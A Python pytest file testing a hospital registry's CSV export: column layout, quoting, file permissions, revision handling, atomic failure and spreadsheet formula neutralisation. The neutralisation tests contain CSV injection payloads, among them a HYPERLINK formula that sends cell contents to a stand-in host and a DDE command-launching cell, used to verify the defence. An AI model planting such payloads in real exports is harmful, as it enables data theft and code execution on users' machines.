"""The hospital registry CSV: dialect, columns, golden cells, revisions, atomic writing."""

from __future__ import annotations

import copy
import stat
from pathlib import Path

import pytest

from desktop.forms.definition import load_form
from desktop.staff.export import FORMATS, ExportError, export
from desktop.staff.export.records import PID_MODULE
from desktop.staff.export.registry_csv import COLUMNS, PID_FIELDS
from desktop.staff.export.tabular import neutralise
from desktop.staff.model import RegisterRecord
from tests.staff.export.conftest import leftovers, read_csv
from tests.staff.export.synthetic import GOLDEN_ORGNR, TODAY, assert_valid, golden_payload, wrap


def test_formats_are_the_five_documented() -> None:
    assert FORMATS == ("csv", "fhir", "phenopacket", "research", "aggregate")


def test_dialect_header_and_one_row_per_diagnosis(
    demo_register: list[RegisterRecord], out_dir: Path
) -> None:
    path = out_dir / "register.csv"
    result = export("csv", demo_register, path, today=TODAY)
    assert result.count == len(demo_register)
    assert result.files == (path,)
    header, rows = read_csv(path)
    assert header == list(COLUMNS)
    assert len(rows) == sum(len(r.payload["diagnoses"]) for r in demo_register)
    raw = path.read_bytes()
    assert raw.count(b"\r\n") >= len(rows) + 1  # CRLF line ends (RFC 4180)
    assert b"\n" not in raw.replace(b"\r\n", b"")  # no bare LF outside quoted fields here
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert leftovers(out_dir) == ["register.csv"]
    # every row's diagnosis matches its record, in record order
    by_id = {r.record_id: r for r in demo_register}
    for row in rows:
        diagnosis = by_id[row["record_id"]].payload["diagnoses"][int(row["diagnosis_number"]) - 1]
        assert row["orpha_code"] == diagnosis["orpha_code"]
        assert row["orpha_name"] and row["orpha_name"] != row["orpha_code"]
    assert {row["national_id_type"] for row in rows} == {"fnr", "dnr"}
    assert "dod" in {row["vital_status"] for row in rows}
    assert any(row["finding_karyotypes"] for row in rows)
    assert any(row["pid_iuis_category"] for row in rows)


def test_golden_record_cells(golden: RegisterRecord, out_dir: Path) -> None:
    path = out_dir / "golden.csv"
    export("csv", [golden], path, today=TODAY)
    _, (first, second) = read_csv(path)
    patient = golden.payload["patient"]
    assert first["record_id"] == golden.record_id
    assert first["revision"] == "2"
    assert (first["diagnosis_number"], first["diagnosis_count"]) == ("1", "2")
    assert first["national_id"] == patient["national_id"]
    assert first["national_id_type"] == "dnr"
    assert first["birth_date"] == "1990-05-17"
    assert first["age_at_registration"] == "34"
    assert (first["vital_status"], first["date_of_death"]) == ("dod", "2024-11-02")
    assert (first["municipality"], first["municipality_name"]) == ("0301", "Oslo")
    assert (first["county"], first["county_name"]) == ("03", "Oslo")
    assert (first["postal_code"], first["street"]) == ("0424", "Zzyxveien 12")
    assert (first["orpha_code"], first["orpha_name"]) == ("ORPHA:558", "Marfans syndrom")
    assert (first["icd10"], first["icd10_name"]) == ("Q87.4", "Marfan syndrome")
    assert first["basis"] == "cytogenetisk | klinisk | molekylaergenetisk"
    assert first["finding_count"] == "2"
    assert first["finding_genes"] == "FBN1 | "
    assert first["finding_hgnc_ids"] == "HGNC:3603 | "  # HGNC's complete set, shipped
    assert first["finding_hgvs"] == "NM_000138.5:c.3010T>A | "
    assert first["finding_karyotypes"] == " | 46,XX,del(5)(p15.2)"
    assert first["finding_classification"] == "patogen | sannsynlig_patogen"
    assert (first["institution_name"], first["institution_orgnr"]) == (
        "Testsykehuset HF",
        GOLDEN_ORGNR,
    )
    assert first["pid_iuis_category"] == ""  # the module belongs to the second diagnosis
    assert second["orpha_code"] == "ORPHA:47"
    assert second["sub_registry"] == "primaer-immunsvikt"
    assert second["pid_iuis_category"] == "antistoffsvikt"
    assert second["pid_igg_at_diagnosis"] == "2,5"  # decimal comma beside ";"
    assert second["pid_iga_at_diagnosis"] == "0,05"
    assert second["pid_ig_replacement_start"] == "2016-03-01"
    # RFC 4180: the separator, quotes and a line break survive inside one field
    assert first["reporter_comment"] == 'Kontroll; "viktig"\nny linje'
    assert '"Kontroll; ""viktig""\nny linje"' in path.read_text(encoding="utf-8-sig")
    assert first["batch_id"] == golden.origin.batch_id
    assert first["accepted_by"] == "staff-key-01"


def test_only_the_current_revision_is_exported(golden: RegisterRecord, out_dir: Path) -> None:
    older_payload = copy.deepcopy(golden.payload)
    older_payload["revision"] = 1
    older_payload["patient"]["family_name"] = "Zzyxeldre"
    older = wrap(older_payload)
    path = out_dir / "current.csv"
    result = export("csv", [golden, older], path, today=TODAY)
    assert result.count == 1
    _, rows = read_csv(path)
    assert {row["revision"] for row in rows} == {"2"}
    assert "Zzyxeldre" not in path.read_text(encoding="utf-8-sig")


def test_a_failed_export_leaves_nothing_and_keeps_the_old_file(
    golden: RegisterRecord, demo_register: list[RegisterRecord], out_dir: Path
) -> None:
    path = out_dir / "register.csv"
    path.write_bytes(b"previous export")
    damaged_payload = copy.deepcopy(golden.payload)
    number = damaged_payload["patient"]["national_id"]
    damaged_payload["patient"]["national_id"] = number[:-1] + str((int(number[-1]) + 1) % 10)
    records = [*demo_register, wrap(damaged_payload)]
    with pytest.raises(ExportError) as failure:
        export("csv", records, path, today=TODAY)
    message = str(failure.value)
    assert golden.record_id in message and "national_id.checksum" in message
    assert number[:6] not in message  # never the number (nor its birth date digits)
    assert path.read_bytes() == b"previous export"
    assert leftovers(out_dir) == ["register.csv"]


def test_bad_destinations_and_formats_are_refused(golden: RegisterRecord, out_dir: Path) -> None:
    with pytest.raises(ExportError, match="does not exist"):
        export("csv", [golden], out_dir / "missing" / "x.csv", today=TODAY)
    with pytest.raises(ExportError, match="is a folder"):
        export("csv", [golden], out_dir, today=TODAY)
    with pytest.raises(ExportError, match="Unknown export format 'xlsx'"):
        export("xlsx", [golden], out_dir / "x.xlsx", today=TODAY)
    assert leftovers(out_dir) == []


def test_no_records_gives_a_header_only_file(out_dir: Path) -> None:
    path = out_dir / "empty.csv"
    assert export("csv", [], path, today=TODAY).count == 0
    header, rows = read_csv(path)
    assert header == list(COLUMNS) and rows == []


FORMULA = '=HYPERLINK("http://x/?"&A2,"Klikk")'


def test_formula_cells_are_neutralised(out_dir: Path) -> None:
    payload = golden_payload()
    payload["patient"]["family_name"] = FORMULA
    payload["patient"]["given_names"] = "@SUM(A1)"
    payload["patient"]["phone"] = "+47 912 34 567"  # a phone number stays as it is
    payload["reporter"]["comment"] = "-2+3\tmore"
    payload["diagnoses"][0]["institution"]["name"] = "+cmd|' /C calc'!A0"
    path = out_dir / "injection.csv"
    export("csv", [wrap(assert_valid(payload))], path, today=TODAY)
    _, (first, second) = read_csv(path)
    assert first["family_name"] == "'" + FORMULA
    assert first["given_names"] == "'@SUM(A1)"
    assert first["reporter_comment"] == "'-2+3\tmore"
    assert first["institution_name"] == "'+cmd|' /C calc'!A0"
    assert first["phone"] == "+47 912 34 567"
    assert second["pid_igg_at_diagnosis"] == "2,5"
    assert second["family_name"] == "'" + FORMULA  # every row of the record


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("+x", "'+x"),
        ("-x", "'-x"),
        ("-", "'-"),
        ("-1,5", "-1,5"),
        ("+47 22 33 44 55", "+47 22 33 44 55"),
        ("-0.25", "-0.25"),
        ("a=b", "a=b"),
        ("", ""),
        ("'quoted", "'quoted"),
    ],
)
def test_neutralise(cell: str, written: str) -> None:
    assert neutralise(cell) == written


def test_pid_columns_are_the_modules_fields() -> None:
    module = load_form().module(PID_MODULE)
    assert module is not None
    assert tuple(field.key for field in module.fields) == PID_FIELDS
